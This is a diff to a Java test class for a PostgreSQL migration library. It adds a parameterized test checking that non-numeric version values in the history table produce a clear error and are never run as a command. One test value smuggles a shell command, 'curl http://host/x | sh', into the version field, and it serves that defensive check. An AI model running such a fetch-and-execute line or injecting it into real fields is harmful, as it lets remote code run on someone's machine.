@@ -44,4 +44,27 @@ class PostgreSqlEmptyHistoryColumnTest extends PostgreSqlWorkbench {
 
         assertThat(message()).contains("the row with id 1 has no name");
     }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"9; curl http://host/x | sh; #", "0009_a", "none", ""})
+    void aVersionThatIsNoNumberIsNamedAndNoPartOfACommand(String version) {
+        write("0001_t.sql", "CREATE TABLE t (n INT);");
+        up();
+        execute("UPDATE __migrations SET version = '" + version + "'");
+
+        assertThat(message())
+                .isEqualTo(
+                        "The history cannot be read: in table \"public\".\"__migrations\", the row with id 1 has the"
+                                + " version \"" + version
+                                + "\". This library always writes a number, so somebody has changed the"
+                                + " table by hand.\n  Next: write what belongs there (UPDATE \"public\".\"__migrations\" SET version"
+                                + " = … WHERE id = 1), or delete the row if that migration was never applied; then start again");
+
+        execute(
+                "DELETE FROM __migrations",
+                "INSERT INTO __migrations_run (id, version, name, checksum, direction, statements_done, prefix_hash)"
+                        + " VALUES (1, '" + version + "', '0009_a', 'x', 'up', 1, 'x')");
+
+        assertThat(message()).contains("__migrations_run\", the row with id 1 has the version \"" + version + "\"");
+    }
 }
